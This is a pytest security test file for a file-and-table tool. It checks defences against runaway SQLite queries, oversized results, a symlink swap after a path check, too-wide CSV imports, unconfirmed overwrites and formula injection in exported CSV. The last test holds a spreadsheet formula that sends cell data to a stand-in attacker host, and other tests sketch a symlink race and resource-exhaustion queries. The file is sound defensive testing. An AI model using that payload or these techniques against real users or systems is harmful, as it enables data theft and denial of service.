"""Red-team pass on issue 15 (the scratchpad, import_table, export_table): hostile queries and hostile files from an
untrusted caller. Each test first failed and showed a defect, or (xfail) still shows one."""

from __future__ import annotations

import csv
import os
import time

import pytest

from filescout.tools import Context
from filescout.tools import scratch_import as si
from filescout.tools.invoke import invoke

ONE_ROW = "WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c WHERE i < {n}) "


@pytest.fixture
def sctx(fshome, tmp_path):
    (tmp_path / "docs").mkdir()
    c = Context(fshome, roots=[str(tmp_path / "docs")])
    yield c
    c.close()


def call(ctx, name, **args):
    out = invoke(name, args, ctx)
    assert "Traceback" not in str(out.error)
    return out


def test_one_long_function_call_is_stopped_at_the_time_limit(sctx, monkeypatch):
    # SQLite's progress handler runs between steps: printf with a 2e9 precision was one 15 s step
    monkeypatch.setenv("FILESCOUT_QUERY_SECONDS", "0.3")
    t0 = time.monotonic()
    out = call(sctx, "query_data", query="SELECT printf('%.*c', 2000000000, 'x')")
    took = time.monotonic() - t0
    assert not out.ok and out.error["code"] == "too_slow", out.error
    assert took < 3.0, took
    assert "time limit" in out.error["message"]


def test_an_answer_carries_at_most_20_mb_of_values(sctx):
    # 40 rows of 8 MB each were all held and returned (320 MB here; 1,000 rows of 10 MB would be 10 GB)
    query = ONE_ROW.format(n=40) + "SELECT i, printf('%.*c', 8000000, 'x') AS big FROM c"
    out = call(sctx, "query_data", query=query)
    assert out.ok, out.error
    rows = out.data["rows"]
    assert sum(len(r["big"]) for r in rows) <= 20_000_000 + 8_000_000
    assert [r["i"] for r in rows] == list(range(1, len(rows) + 1))
    assert out.data["more"] == 40 - len(rows) and out.data["more"] > 0
    assert any("left out" in n for n in out.data["notes"])


def test_a_folder_swapped_for_a_symlink_after_the_check_is_not_read(sctx, tmp_path, monkeypatch):
    docs, outside = tmp_path / "docs", tmp_path / "private"
    (docs / "sub").mkdir()
    (docs / "sub" / "a.csv").write_text("name,amount\nlunch,4.50\n")
    outside.mkdir()
    (outside / "a.csv").write_text("name,amount\nhunter2,999\n")
    checked = si.open_regular

    def check_then_swap(policy, path, **kw):  # the attacker wins the race right after the check
        fd = checked(policy, path, **kw)
        os.rename(docs / "sub", docs / "sub_old")
        os.symlink(outside, docs / "sub")
        return fd

    monkeypatch.setattr(si, "open_regular", check_then_swap)
    out = call(sctx, "import_table", table="t", path="sub/a.csv")
    got = call(sctx, "query_data", query="SELECT name FROM t") if out.ok and out.data["rows"] else None
    names = [r["name"] for r in got.data["rows"]] if got else []
    assert "hunter2" not in names
    assert names == ["lunch"]  # the file that was checked is the one read


def test_too_many_columns_is_a_plain_error_and_the_import_goes_on(sctx, tmp_path):
    # SQLite's 2,000-column limit surfaced as an internal error, and one wide file failed a whole import
    out = call(sctx, "create_table", table="wide", columns={f"c{i}": "text" for i in range(2500)})
    assert not out.ok and out.error["code"] == "invalid_input" and "2,000 columns" in out.error["message"]
    docs = tmp_path / "docs"
    (docs / "wide.csv").write_text(",".join(f"f{i}" for i in range(2100)) + "\n" + ",".join(["1"] * 2100) + "\n")
    (docs / "x_small.csv").write_text("f1,f2\n5,6\n")
    out = call(sctx, "import_table", table="t", paths=["wide.csv", "x_small.csv"])
    assert out.ok, out.error
    files = {os.path.basename(f["path"]): f for f in out.data["files"]}
    assert "2,000 columns" in files["wide.csv"]["error"]
    assert files["x_small.csv"]["rows"] == 1 and out.data["rows"] == 1


def test_export_over_an_existing_file_asks_first_and_can_be_undone(sctx, tmp_path):
    # (export_table overwrite=True used to replace a user's file at once: no plan, confirmation, journal or undo)
    thesis = tmp_path / "docs" / "thesis.docx"
    thesis.write_text("years of work")
    assert call(sctx, "create_table", table="t", columns={"a": "text"}).ok
    assert call(sctx, "insert_rows", table="t", rows=[{"a": "x"}]).ok
    out = call(sctx, "export_table", table="t", path="thesis.docx", format="csv", overwrite=True)
    assert out.status.value == "confirmation_required", out
    assert thesis.read_text() == "years of work"  # nothing yet
    done = call(sctx, "export_table", table="t", path="thesis.docx", format="csv", overwrite=True,
                confirm_token=out.token)  # fmt: skip
    assert done.ok and thesis.read_text() == "a\nx\n"
    assert call(sctx, "undo").ok
    assert thesis.read_text() == "years of work"


def test_exported_csv_does_not_carry_formulas(sctx, tmp_path):
    # a hostile statement imported then exported must not run as a formula in a spreadsheet
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert call(sctx, "create_table", table="t", columns={"merchant": "text"}).ok
    assert call(sctx, "insert_rows", table="t", rows=[{"merchant": evil}]).ok
    assert call(sctx, "export_table", table="t", path="out.csv").ok
    with open(tmp_path / "docs" / "out.csv", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
